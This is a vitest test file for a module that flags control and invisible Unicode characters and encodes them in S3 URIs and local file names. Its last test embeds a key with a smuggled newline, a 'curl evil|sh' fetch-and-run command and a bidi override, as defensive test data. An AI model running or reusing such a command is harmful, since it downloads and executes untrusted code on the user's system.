import { describe, expect, it } from 'vitest';
import { safeSegment } from '../../../main/transfers/local-path';
import { isControlCharacter, isInvisibleCharacter, printableS3Uri, replaceCharacters } from '../../../main/shared/unsafe-characters';

const codePoints = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => from + i);

describe('unsafe characters', () => {
  it('controls: C0, DEL and C1, nothing else', () => {
    expect(codePoints(0, 0x1f).every(isControlCharacter)).toBe(true);
    expect(codePoints(0x7f, 0x9f).every(isControlCharacter)).toBe(true);
    expect([0x20, 0x41, 0x7e, 0xa0, 0x200b].some(isControlCharacter)).toBe(false);
  });

  it('invisible: the bidi controls, zero-width characters and separators, nothing around them', () => {
    const invisible = [0x061c, ...codePoints(0x200b, 0x200f), ...codePoints(0x2028, 0x202e), 0x2060, ...codePoints(0x2066, 0x2069), 0xfeff];
    expect(invisible.every(isInvisibleCharacter)).toBe(true);
    expect([0x061b, 0x200a, 0x2010, 0x2027, 0x202f, 0x205f, 0x2061, 0x2065, 0x206a, 0xfefe, 0xff00, 0x41].some(isInvisibleCharacter)).toBe(false);
  });

  it('local names drop exactly the characters copied addresses encode (an emoji joiner aside)', () => {
    for (const codePoint of codePoints(0, 0x3000).concat(0xfeff)) {
      const name = safeSegment(`a${String.fromCodePoint(codePoint)}b`, 'posix');
      const dropped = name === 'ab';
      expect(dropped, codePoint.toString(16)).toBe(isControlCharacter(codePoint) || isInvisibleCharacter(codePoint));
    }
  });

  it('replaceCharacters walks code points, so astral characters stay whole', () => {
    expect(replaceCharacters('a😀\u0000b', isControlCharacter, () => '?')).toBe('a😀?b');
  });

  it('printableS3Uri encodes what is unsafe to paste and nothing else', () => {
    expect(printableS3Uri({ bucket: 'b', key: 'x\ncurl evil|sh\u202e 100% #2 日本' })).toBe('s3://b/x%0Acurl evil|sh%E2%80%AE 100% #2 日本');
  });
});
